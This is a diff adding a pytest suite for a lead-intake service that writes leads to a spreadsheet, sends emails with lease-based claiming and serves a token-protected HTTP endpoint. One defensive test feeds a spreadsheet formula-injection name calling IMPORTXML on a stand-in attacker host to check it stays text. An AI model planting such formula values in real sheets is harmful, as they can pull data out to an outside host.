@@ -0,0 +1,381 @@
+"""Tests for api.intake — in-memory sheet, no SMTP, loopback HTTP only."""
+
+from __future__ import annotations
+
+import json
+import threading
+import urllib.error
+import urllib.request
+from datetime import datetime, timedelta, timezone
+from pathlib import Path
+
+import pytest
+
+from api.intake import IntakeService, IntakeLead, parse_lead, serve
+from src.stage0.sharding import CLAIMED, IN_DOUBT_STATUS, SENDING, Lease, parse_lease
+from src.storage.sheets import STATUS_HEADERS, _first_appended_row, is_eligible_for_send
+
+CALENDAR_URL = "https://calendly.com/flexihome/konsultacja"
+FAKE_ATTACHMENTS = [Path("a.pdf"), Path("b.pdf"), Path("c.pdf")]
+FAKE_SMTP = dict(
+    smtp_host="smtp.example.com",
+    smtp_port=587,
+    smtp_user="user",
+    smtp_password="pass",
+    smtp_from_email="sender@example.com",
+)
+
+
+class FakeSheet:
+    """Input and status tabs as lists of dicts; records every API call."""
+
+    def __init__(self, inputs=(), statuses=()):
+        self.inputs = [dict(r) for r in inputs]
+        self.statuses = [dict(r) for r in statuses]
+        self.calls: list[str] = []
+
+    def read_input_rows(self):
+        self.calls.append("read_input")
+        return [dict(r) for r in self.inputs]
+
+    def read_status_rows(self):
+        self.calls.append("read_status")
+        return [dict(r) for r in self.statuses]
+
+    def update_row(self, row_number, updates):
+        self.calls.append("update")
+        self.statuses[row_number - 2].update(updates)
+
+    def append_status_rows(self, rows):
+        self.calls.append("append_status")
+        first = len(self.statuses) + 2
+        self.statuses.extend(dict(zip(STATUS_HEADERS, r)) for r in rows)
+        return first
+
+    def append_input_rows(self, rows):
+        self.calls.append("append_input")
+        self.inputs.extend(
+            {"Imię i nazwisko / Firma": n, "Email": e, "Telefon dodatkowy": p} for n, e, p in rows
+        )
+
+
+@pytest.fixture
+def smtp(monkeypatch):
+    sent: list[str] = []
+    monkeypatch.setattr("api.intake.send_email_draft", lambda **kw: sent.append(kw["to_email"]))
+    return sent
+
+
+def _service(sheet, **kwargs):
+    kwargs.setdefault("send_delay", 0)
+    return IntakeService(
+        sheet, CALENDAR_URL, attachments=FAKE_ATTACHMENTS, batch_seconds=0, worker_id="intake-t", **FAKE_SMTP, **kwargs,
+    )
+
+
+class FlakySheet(FakeSheet):
+    """FakeSheet whose update_row fails while *failing* says so for the row's new status."""
+
+    def __init__(self, failing=lambda row_number, updates: False, **kwargs):
+        super().__init__(**kwargs)
+        self.failing = failing
+
+    def update_row(self, row_number, updates):
+        if self.failing(row_number, updates):
+            raise RuntimeError("Sheets 503")
+        super().update_row(row_number, updates)
+
+
+class TestParseLead:
+    def test_normalizes_email(self):
+        lead = parse_lead({"name": " Anna ", "email": " Anna@Example.COM ", "phone": "600"})
+        assert lead == IntakeLead(name="Anna", email="anna@example.com", phone="600")
+
+    def test_accepts_sheet_headers(self):
+        lead = parse_lead({"Imię i nazwisko / Firma": "Firma", "Email": "a@b.pl"})
+        assert lead.name == "Firma"
+
+    @pytest.mark.parametrize("payload", [[], {"email": ""}, {"email": "no-at-sign"}, {"email": "a@b"}])
+    def test_rejects_invalid(self, payload):
+        with pytest.raises(ValueError):
+            parse_lead(payload)
+
+
+class TestFirstAppendedRow:
+    def test_parses_updated_range(self):
+        assert _first_appended_row({"updates": {"updatedRange": "'status'!A12:G14"}}) == 12
+
+    def test_missing_range(self):
+        assert _first_appended_row(None) is None
+
+
+class TestBatch:
+    def test_new_lead_appended_and_sent(self, smtp):
+        sheet = FakeSheet()
+        service = _service(sheet)
+        service.submit(IntakeLead("Anna", "anna@example.com", "600"))
+
+        report = service.flush()
+
+        assert report.emails_sent == 1
+        assert smtp == ["anna@example.com"]
+        assert sheet.inputs[0]["Email"] == "anna@example.com"
+        assert sheet.statuses[0]["Status emaila"] == "SENT"
+        assert sheet.statuses[0]["Email wysłany"]
+
+    def test_status_row_claimed_before_input_row(self, smtp):
+        sheet = FakeSheet()
+        service = _service(sheet)
+        service.submit(IntakeLead("Anna", "anna@example.com"))
+
+        service.flush()
+
+        assert sheet.calls.index("append_status") < sheet.calls.index("append_input")
+
+    def test_claimed_row_not_eligible_for_scheduled_job(self):
+        lease = Lease(CLAIMED, "intake-t", datetime.now(timezone.utc) + timedelta(minutes=5))
+        assert not is_eligible_for_send({"Email wysłany": "", "Status emaila": lease.format()})
+
+    def test_batch_uses_single_append_per_tab(self, smtp):
+        sheet = FakeSheet()
+        service = _service(sheet)
+        for i in range(5):
+            service.submit(IntakeLead(f"L{i}", f"l{i}@example.com"))
+
+        report = service.flush()
+
+        assert report.received == 5
+        assert sheet.calls.count("append_status") == 1
+        assert sheet.calls.count("append_input") == 1
+        assert sheet.calls.count("read_input") == 1
+
+    def test_existing_input_email_is_duplicate(self, smtp):
+        sheet = FakeSheet(inputs=[{"Email": "anna@example.com", "Imię i nazwisko / Firma": "Anna"}])
+        service = _service(sheet)
+        service.submit(IntakeLead("Anna", "anna@example.com"))
+
+        report = service.flush()
+
+        assert report.duplicates == 1
+        assert smtp == []
+        assert len(sheet.inputs) == 1
+
+    def test_existing_sent_status_row_not_resent(self, smtp):
+        sheet = FakeSheet(statuses=[{
+            "Lead": "Anna", "Email": "anna@example.com",
+            "Email wysłany": "2026-01-01 10:00", "Status emaila": "SENT",
+        }])
+        service = _service(sheet)
+        service.submit(IntakeLead("Anna", "anna@example.com"))
+
+        service.flush()
+
+        assert smtp == []
+        assert len(sheet.statuses) == 1  # no duplicate status row
+
+    def test_same_email_queued_once(self):
+        service = _service(FakeSheet())
+        assert service.submit(IntakeLead("A", "a@example.com"))
+        assert not service.submit(IntakeLead("A", "a@example.com"))
+
+    def test_send_failure_leaves_row_retryable(self, monkeypatch):
+        def boom(**kw):
+            raise RuntimeError("SMTP down")
+
+        monkeypatch.setattr("api.intake.send_email_draft", boom)
+        sheet = FakeSheet()
+        service = _service(sheet)
+        service.submit(IntakeLead("Anna", "anna@example.com"))
+
+        report = service.flush()
+
+        assert report.emails_failed == 1
+        assert is_eligible_for_send(sheet.statuses[0])
+
+    def test_expired_claim_is_released(self, smtp):
+        sheet = FakeSheet()
+        service = _service(sheet, lease_seconds=0)
+        service.submit(IntakeLead("Anna", "anna@example.com"))
+
+        report = service.flush()
+
+        assert (report.emails_sent, report.emails_failed, smtp) == (0, 1, [])
+        assert is_eligible_for_send(sheet.statuses[0])
+
+    def test_failed_status_write_does_not_stop_the_batch(self, smtp):
+        sheet = FlakySheet(lambda row, updates: row == 2 and updates["Status emaila"].startswith(SENDING))
+        service = _service(sheet)
+        service.submit(IntakeLead("Anna", "anna@example.com"))
+        service.submit(IntakeLead("Ben", "ben@example.com"))
+
+        report = service.flush()
+
+        assert (report.emails_sent, report.emails_failed, smtp) == (1, 1, ["ben@example.com"])
+        assert is_eligible_for_send(sheet.statuses[0])
+
+    def test_stuck_claims_released_without_restart(self, smtp):
+        clock = [datetime(2026, 1, 5, 9, 0, tzinfo=timezone.utc)]
+        sheet = FlakySheet(lambda row, updates: True)
+        service = _service(sheet, lease_seconds=60, recover_seconds=120, now=lambda: clock[0])
+        service.recover_if_due()
+        service.submit(IntakeLead("Anna", "anna@example.com"))
+
+        service.flush()
+        assert parse_lease(sheet.statuses[0]["Status emaila"]).phase == CLAIMED  # Sheets down: release failed too
+
+        sheet.failing = lambda row, updates: False
+        clock[0] += timedelta(seconds=90)
+        service.recover_if_due()
+        assert not is_eligible_for_send(sheet.statuses[0])  # next recovery not due yet
+
+        clock[0] += timedelta(seconds=60)
+        service.recover_if_due()
+        assert is_eligible_for_send(sheet.statuses[0])
+
+    def test_sends_are_paced(self, smtp, monkeypatch):
+        sleeps: list[float] = []
+        monkeypatch.setattr("api.intake.time.sleep", sleeps.append)
+        service = _service(FakeSheet(), send_delay=10)
+        for name in ("a", "b", "c"):
+            service.submit(IntakeLead(name, f"{name}@example.com"))
+
+        service.flush()
+
+        assert len(smtp) == 3
+        assert len(sleeps) == 2 and all(9 < s <= 10 for s in sleeps)
+
+    def test_formula_like_name_stays_text(self, smtp):
+        from benchmarks.sheets_emulator import SheetsEmulator
+        from src.storage.sheets import INPUT_HEADERS, SheetsClient
+
+        name = '=IMPORTXML("http://evil.example.com", "//a")'
+        with SheetsEmulator() as emu:
+            emu.add_spreadsheet("sheet", {"input": [list(INPUT_HEADERS)], "status": [list(STATUS_HEADERS)]})
+            sheets = SheetsClient("", "sheet", input_tab="input", status_tab="status", gspread_client=emu.gspread_client())
+            service = _service(sheets)
+            service.submit(IntakeLead(name, "anna@example.com"))
+
+            service.flush()
+
+            lead_cell = emu.values("sheet", "status")[1][0]
+            assert type(lead_cell) is str and lead_cell == name  # text, not a formula
+            assert emu.values("sheet", "input")[1][0] == name
+
+    def test_send_clears_follow_up_schedule(self, smtp, tmp_path):
+        path = tmp_path / "followup.json"
+        path.write_text("{}")
+        service = _service(FakeSheet(inputs=[{"Email": "old@example.com"}]), schedule_path=path)
+
+        service.submit(IntakeLead("Old", "old@example.com"))
+        service.flush()
+        assert path.exists()  # nothing sent
+        service.submit(IntakeLead("Anna", "anna@example.com"))
+        service.flush()
+        assert not path.exists()
+
+    def test_test_mode_redirects(self, smtp):
+        service = _service(FakeSheet(), test_mode=True, test_recipient="qa@internal.example.com")
+        service.submit(IntakeLead("Anna", "anna@example.com"))
+
+        service.flush()
+
+        assert smtp == ["qa@internal.example.com"]
+
+    def test_append_without_range_looks_rows_up(self, smtp):
+        class NoRangeSheet(FakeSheet):
+            def append_status_rows(self, rows):
+                super().append_status_rows(rows)
+                # Someone else's row lands in between; guessing from the read would miss.
+                self.statuses.insert(0, {"Email": "other@example.com", "Status emaila": ""})
+                return None
+
+            def get_status_row_number_by_email(self, email):
+                emails = [r.get("Email") for r in self.statuses]
+                return emails.index(email) + 2 if email in emails else None
+
+        sheet = NoRangeSheet()
+        service = _service(sheet)
+        service.submit(IntakeLead("Anna", "anna@example.com"))
+
+        assert service.flush().emails_sent == 1
+        assert sheet.statuses[0]["Status emaila"] == ""
+        assert sheet.statuses[1]["Status emaila"] == "SENT"
+
+    def test_row_anchors_write_by_email(self, smtp):
+        class AnchoredSheet(FakeSheet):
+            row_anchors = True
+
+            def update_row(self, row_number, updates):
+                raise AssertionError("row numbers are stale under row anchors")
+
+            def update_lead(self, email, updates):
+                self.calls.append("update_lead")
+                next(r for r in self.statuses if r["Email"] == email).update(updates)
+                return True
+
+        sheet = AnchoredSheet()
+        service = _service(sheet)
+        service.submit(IntakeLead("Anna", "anna@example.com"))
+
+        assert service.flush().emails_sent == 1
+        assert sheet.statuses[0]["Status emaila"] == "SENT"
+        assert sheet.calls.count("update_lead") == 2
+
+
+class TestRecover:
+    def test_expired_intake_leases_settled(self):
+        past = datetime.now(timezone.utc) - timedelta(minutes=1)
+        sheet = FakeSheet(statuses=[
+            {"Email": "a@example.com", "Email wysłany": "", "Status emaila": Lease(CLAIMED, "intake-x", past).format()},
+            {"Email": "b@example.com", "Email wysłany": "", "Status emaila": Lease(SENDING, "intake-x", past).format()},
+            {"Email": "c@example.com", "Email wysłany": "", "Status emaila": Lease(SENDING, "shard-w1", past).format()},
+        ])
+
+        _service(sheet).recover()
+
+        assert [r["Status emaila"] for r in sheet.statuses[:2]] == ["", IN_DOUBT_STATUS]
+        assert parse_lease(sheet.statuses[2]["Status emaila"]).worker_id == "shard-w1"  # not ours
+
+
+class TestHttp:
+    @pytest.fixture
+    def server(self):
+        service = _service(FakeSheet())
+        httpd = serve(service, "127.0.0.1", 0, "s3cret")
+        thread = threading.Thread(target=httpd.serve_forever, daemon=True)
+        thread.start()
+        yield service, f"http://127.0.0.1:{httpd.server_address[1]}"
+        httpd.shutdown()
+        httpd.server_close()
+
+    @staticmethod
+    def _post(url, body, token="s3cret"):
+        req = urllib.request.Request(
+            url + "/leads", data=json.dumps(body).encode(), method="POST",
+            headers={"Content-Type": "application/json", "Authorization": f"Bearer {token}"},
+        )
+        try:
+            with urllib.request.urlopen(req, timeout=5) as resp:
+                return resp.status, json.loads(resp.read())
+        except urllib.error.HTTPError as exc:
+            return exc.code, json.loads(exc.read())
+
+    def test_post_queues_lead(self, server):
+        service, url = server
+        assert self._post(url, {"name": "A", "email": "a@example.com"}) == (202, {"status": "queued"})
+        assert self._post(url, {"name": "A", "email": "a@example.com"}) == (200, {"status": "duplicate"})
+        assert service.queued == 1
+
+    def test_wrong_token_rejected(self, server):
+        _, url = server
+        assert self._post(url, {"email": "a@example.com"}, token="nope")[0] == 401
+
+    def test_invalid_payload_rejected(self, server):
+        _, url = server
+        status, body = self._post(url, {"email": "bad"})
+        assert status == 400
+        assert "email" in body["error"]
+
+    def test_non_loopback_requires_token(self):
+        with pytest.raises(RuntimeError, match="STAGE0_INTAKE_TOKEN"):
+            serve(_service(FakeSheet()), "0.0.0.0", 0, None)